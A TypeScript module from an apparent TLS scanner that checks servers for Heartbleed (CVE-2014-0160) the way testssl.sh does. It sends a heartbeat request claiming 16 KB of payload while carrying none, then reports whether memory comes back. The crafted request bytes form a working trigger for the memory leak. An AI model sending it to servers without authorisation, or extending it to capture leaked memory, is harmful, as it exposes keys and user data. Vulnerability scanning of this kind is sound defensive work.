import { wireVersionOf } from "../protocols";
import { buildClientHello } from "../wire/client-hello";
import { Conversation, type ConversationEnd, type ServerRecord } from "../wire/conversation";
import { ContentType, ExtensionType, HandshakeType } from "../wire/extension-types";
import { parseServerHello } from "../wire/server-hello";
import { describeRecordOrEnd } from "./describe";
import { newestLegacy, protocolLabel, suitesFor } from "./offer";
import type { VulnCheck } from "./types";

/** peer_allowed_to_send: the mode a client offers the heartbeat extension with (RFC 6520). */
const PEER_ALLOWED_TO_SEND = 1;
const HEARTBEAT_REQUEST = 1;
/** The payload length the request claims, with no payload at all: testssl.sh's 16 KB. */
const CLAIMED_LENGTH = 0x4000;
/**
 * A patched server drops the overlong request silently (RFC 6520 §4), so silence is the usual
 * answer: a vulnerable one answers at once, from memory.
 */
const ANSWER_WAIT_MS = 2_000;

/** Once memory has come, the rest of it follows at once: a short wait collects it. */
const MORE_WAIT_MS = 200;

const isRecord = (answer: ServerRecord | ConversationEnd): answer is ServerRecord => "type" in answer;

/**
 * CVE-2014-0160 (OpenSSL 1.0.1–1.0.1f): a heartbeat request whose payload length claims more than
 * it carries is answered with that many bytes of the server's memory. Probed as testssl.sh does,
 * and only when the ServerHello takes the heartbeat extension up: without it there is nothing to
 * probe.
 */
export const heartbleed: VulnCheck = {
  id: "vuln.heartbleed",
  applies: (context) => newestLegacy(context) !== undefined,
  async run(target, context) {
    const version = newestLegacy(context)!;
    const conversation = await Conversation.open(target);
    if (!(conversation instanceof Conversation))
      return { status: "incomplete", reason: `could not connect (${describeRecordOrEnd(conversation)})` };
    try {
      conversation.send(
        buildClientHello({
          version,
          cipherSuites: suitesFor(context, version),
          servername: target.servername,
          extraExtensions: [[ExtensionType.heartbeat, Buffer.of(PEER_ALLOWED_TO_SEND)]],
        }),
      );
      const flight = await conversation.handshakeUntil(HandshakeType.serverHelloDone);
      const [type, body] = flight.messages[0] ?? [];
      const hello = type === HandshakeType.serverHello && body ? parseServerHello(body) : undefined;
      if (!hello?.ok) {
        const why = "stop" in flight ? describeRecordOrEnd(flight.stop) : "no ServerHello";
        return {
          status: "incomplete",
          reason: `a ${protocolLabel(version)} hello offering heartbeats got ${why}`,
        };
      }
      if (!hello.value.extensions.includes(ExtensionType.heartbeat))
        return {
          status: "not_applicable",
          detail: `A ${protocolLabel(version)} hello offering heartbeats: the server does not take the heartbeat extension up.`,
        };
      const wire = wireVersionOf(version);
      conversation.send(
        Buffer.of(
          ContentType.heartbeat,
          wire >> 8,
          wire & 0xff,
          0,
          3,
          HEARTBEAT_REQUEST,
          CLAIMED_LENGTH >> 8,
          CLAIMED_LENGTH & 0xff,
        ),
      );
      const sent = `a heartbeat request claiming ${CLAIMED_LENGTH} bytes of payload and carrying none`;
      let leaked = 0;
      for (;;) {
        const answer = await conversation.nextRecord(
          Math.min(leaked ? MORE_WAIT_MS : ANSWER_WAIT_MS, target.timeoutMs),
        );
        if (isRecord(answer) && answer.type === ContentType.heartbeat) {
          leaked += answer.body.length;
          continue;
        }
        if (leaked > 0)
          return {
            status: "vulnerable",
            detail: `Sent ${sent}: the server answered with ${leaked} bytes, read from its memory.`,
          };
        return {
          status: "ok",
          detail: `Sent ${sent}: the server answered with ${describeRecordOrEnd(answer)}, no memory.`,
        };
      }
    } finally {
      conversation.close();
    }
  },
};
